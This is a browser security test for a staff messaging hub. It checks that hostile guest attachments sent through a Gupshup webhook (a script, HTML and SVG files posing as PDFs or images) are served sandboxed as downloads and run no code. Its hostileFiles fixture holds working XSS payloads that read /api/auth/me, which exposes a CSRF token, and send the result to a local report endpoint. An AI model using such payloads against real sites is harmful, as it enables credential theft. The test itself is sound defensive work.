import { randomBytes } from "node:crypto";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ADMIN, browserAvailable, type Hub, openThread, signIn, startHub } from "./hub-harness";

// A guest's attachments are hostile input. The attack found from outside: a guest sends a "file" that
// is JavaScript, then an HTML page named invoice.pdf (and an SVG) that loads it as same-origin script
// from /api/messages/<id>/media, which the app's own CSP (`script-src 'self'`) allows when that file is
// served with the type the guest declared. Here the files come from a file server reached by host name
// (as Gupshup's media URLs are); the real server downloads them; a signed-in staff member opens each one
// in Chromium. The guest's script, if it ever ran as ours, would leave a mark in our origin's storage and
// read /api/auth/me (the CSRF token, the way to an ADMIN API key) to send it home to the file server.

const SECRET = randomBytes(24).toString("base64url");
const GUEST = "Mallory Guest";
const GUEST_PHONE = "919876500011";

let hub: Hub;
let files: Server;
let filesUrl = "";
/** Where the guest's script is served from by the hub, once it is stored. */
let scriptPath = "/api/messages/0/media";
/** What the guest's scripts managed to send home (path and query of each request to /report). */
const reports: string[] = [];

function hostileFiles(): Record<string, string> {
  const inline = `localStorage.setItem("pwned-inline", "ran")`;
  return {
    "/payload.js": `
      localStorage.setItem("pwned-" + (document.contentType || "script"), "ran");
      fetch("/api/auth/me", { credentials: "include" })
        .then((r) => r.text())
        .then((me) => fetch(${JSON.stringify(filesUrl)} + "/report?me=" + encodeURIComponent(me), { mode: "no-cors" }));`,
    "/invoice.pdf": `<!doctype html><title>Invoice</title><img src="${filesUrl}/report?html-img"><script src="${scriptPath}"></script><script>${inline}</script>`,
    "/map.svg": `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"><script xlink:href="${scriptPath}"/><script>${inline}</script></svg>`,
    "/receipt.pdf": `%PDF-1.4\n<html><body><script src="${scriptPath}"></script></body></html>`,
  };
}

/** A Gupshup v2 inbound media message, posted to the app's webhook as Gupshup would. */
async function guestSends(type: "file" | "image", url: string, declared: string, name?: string) {
  const body = {
    app: "DemoApp",
    timestamp: Date.now(),
    version: 2,
    type: "message",
    payload: {
      id: `wamid.hostile-${randomBytes(6).toString("hex")}`,
      source: GUEST_PHONE,
      type,
      payload: { url, contentType: declared, ...(name ? { name } : {}), caption: `a ${type}` },
      sender: { phone: GUEST_PHONE, name: GUEST },
    },
  };
  const res = await fetch(`${hub.url}/webhooks/gupshup?token=${encodeURIComponent(SECRET)}`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify(body),
  });
  expect(res.status).toBe(200);
}

const pwnedMarks = (page: Page) =>
  page.evaluate<string[]>(`Object.keys(localStorage).filter((key) => key.startsWith("pwned"))`);

describe.skipIf(!browserAvailable())("a guest's hostile attachments in the browser", () => {
  beforeAll(async () => {
    files = createServer((req, res) => {
      const url = req.url ?? "";
      if (url.startsWith("/report")) {
        reports.push(url);
        return res.writeHead(204, { "access-control-allow-origin": "*" }).end();
      }
      const body = hostileFiles()[url];
      if (!body) return res.writeHead(404).end();
      res.writeHead(200, { "content-type": "text/html" }).end(body);
    });
    await new Promise<void>((resolve) => files.listen(0, "127.0.0.1", resolve));
    filesUrl = `http://localhost:${(files.address() as AddressInfo).port}`;
    // The simulator's files and this test's file server are on loopback: allowed by the real switch.
    hub = await startHub({ MEDIA_FETCH_ALLOW_PRIVATE: "true", GUPSHUP_WEBHOOK_SECRET: SECRET });
  }, 300_000);
  afterAll(async () => {
    await hub?.stop();
    files?.closeAllConnections();
    await new Promise((resolve) => files?.close(resolve));
  });

  it("offers them as downloads, and opening them runs no script and reaches no API", async () => {
    const page = await signIn(hub, ADMIN);
    const stored = page.locator('figure.media[data-media-status="STORED"]');
    // First the script, as a "file"; the pages that load it are written once its address is known.
    await guestSends("file", `${filesUrl}/payload.js`, "text/javascript", "payload.js");
    await openThread(page, GUEST);
    await expect.poll(() => stored.count(), { timeout: 90_000 }).toBe(1);
    scriptPath = (await stored.locator("a").first().getAttribute("href")) ?? "";
    expect(scriptPath).toMatch(/^\/api\/messages\/\d+\/media$/);

    await guestSends("file", `${filesUrl}/invoice.pdf`, "text/html", "invoice.pdf");
    await guestSends("image", `${filesUrl}/map.svg`, "image/svg+xml");
    await guestSends("file", `${filesUrl}/receipt.pdf`, "application/pdf", "receipt.pdf");
    // The same HTML through the simulator's guest, declared application/pdf.
    await hub.simulator("/simulator/inbound", {
      from: GUEST_PHONE,
      name: GUEST,
      media: { type: "document", url: `${filesUrl}/invoice.pdf`, filename: "statement.pdf" },
    });

    await expect.poll(() => stored.count(), { timeout: 90_000 }).toBe(5);
    // Nothing is previewed: not one of them is an image the server recognised.
    expect(await stored.locator("img").count()).toBe(0);
    const links = stored.locator("a.document-link");
    const hrefs: string[] = [];
    const downloads: boolean[] = [];
    for (const link of await links.all()) {
      hrefs.push(`${hub.url}${await link.getAttribute("href")}`);
      downloads.push((await link.getAttribute("download")) !== null);
    }
    // The script, HTML and SVG files download; the PDF (its bytes say PDF) may open in a tab.
    expect(downloads.filter(Boolean)).toHaveLength(4);

    for (const href of hrefs) {
      const res = await page.request.get(href);
      expect(res.status()).toBe(200);
      expect(res.headers()["content-security-policy"]).toBe("sandbox; default-src 'none'");
      expect(res.headers()["x-content-type-options"]).toBe("nosniff");
      expect(res.headers()["content-type"]).toMatch(/^(application\/octet-stream|application\/pdf)$/);
      if (res.headers()["content-type"] === "application/octet-stream")
        expect(res.headers()["content-disposition"]).toMatch(/^attachment; filename="[\w.\- ]+"$/);
    }

    // Staff open each attachment as a page of its own, the way a click or a pasted link would.
    for (const href of hrefs) {
      const tab = await page.context().newPage();
      await tab.goto(href).catch(() => "a download, not a page");
      await tab.waitForLoadState("networkidle").catch(() => undefined);
      await tab.close();
    }
    // Back on the app: no script of the guest's left a mark in our origin or sent anything home.
    await page.reload();
    await page.getByTestId("thread-list").waitFor();
    expect(await pwnedMarks(page)).toEqual([]);
    expect(reports).toEqual([]);
    await page.context().close();
  }, 300_000);
});
